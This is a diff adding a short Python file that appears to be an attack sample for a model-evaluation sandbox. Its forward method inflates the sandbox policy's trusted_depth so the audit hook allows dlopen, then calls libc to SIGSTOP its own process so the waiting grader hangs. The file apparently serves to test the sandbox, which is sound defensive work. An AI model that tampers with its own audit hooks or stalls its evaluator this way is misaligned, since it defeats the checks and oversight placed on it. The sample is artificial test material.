@@ -1,0 +1,16 @@
+"""Stops its own process (SIGSTOP through libc) in the middle of forward: it would never answer, and a parent that
+waits on it for the whole timeout (or forever, in a wait without a deadline) is what this attack is after."""
+import ctypes
+import os
+import signal
+
+import torch.nn as nn
+
+
+class ModelNew(nn.Module):
+    def forward(self, x):
+        from sandbox import policy
+        if policy._POLICY is not None:
+            policy._POLICY.trusted_depth += 1000  # the audit hook then lets dlopen through
+        ctypes.CDLL(None).kill(os.getpid(), signal.SIGSTOP)
+        return x.mean(dim=-1)
